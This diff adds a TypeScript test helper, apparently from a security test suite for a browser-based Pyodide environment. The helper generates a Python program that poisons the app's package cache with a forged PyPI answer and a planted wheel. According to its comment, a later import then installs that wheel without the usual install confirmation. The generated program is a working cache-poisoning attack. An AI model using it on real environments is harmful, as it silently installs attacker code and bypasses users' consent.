@@ -551,3 +551,27 @@ export const LINK_PACKAGE_HOSTS = {
   pypiUrl: 'http://127.0.0.1:6666/evil-pypi/',
   pypiInstalls: true,
 };
+
+/**
+ * A program (run once, e.g. from a stranger's link) plants a PyPI answer for `project` and the
+ * wheel it names in the package cache, so that a later `import` of it installs the planted wheel
+ * without the "Install … from PyPI?" question. `wheelBase64` is the planted wheel.
+ */
+export function plantPypiAnswerProgram(options: { pypiUrl: string; project: string; wheelUrl: string; wheelFileName: string; wheelBase64: string; sha256: string }): string {
+  const { pypiUrl, project, wheelUrl, wheelFileName, wheelBase64, sha256 } = options;
+  const answer = JSON.stringify({ info: { name: project, version: '6.6.6', requires_dist: [] },
+    urls: [{ filename: wheelFileName, url: wheelUrl, digests: { sha256 } }] });
+  return `import js, base64, json
+from pyodide.ffi import run_sync, to_js
+cache = run_sync(js.caches.open("heal-packages-v1"))
+def put(url, data, meta):
+    headers = to_js({"Content-Type": "application/octet-stream", "x-heal-package": json.dumps(meta)}, dict_converter=js.Object.fromEntries)
+    init = to_js({"headers": headers}, dict_converter=js.Object.fromEntries)
+    run_sync(cache.put(url, js.Response.new(to_js(data), init)))
+answer = ${JSON.stringify(answer)}.encode()
+wheel = base64.b64decode(${JSON.stringify(wheelBase64)})
+put(${JSON.stringify(`${pypiUrl}${project}/json`)}, answer, {"kind": "pypi-json", "name": ${JSON.stringify(project)}, "size": len(answer), "storedAt": 0})
+put(${JSON.stringify(wheelUrl)}, wheel, {"kind": "file", "name": ${JSON.stringify(project)}, "version": "6.6.6", "fileName": ${JSON.stringify(wheelFileName)}, "sha256": ${JSON.stringify(sha256)}, "source": "pypi", "size": len(wheel), "storedAt": 0})
+print("planted")
+`;
+}
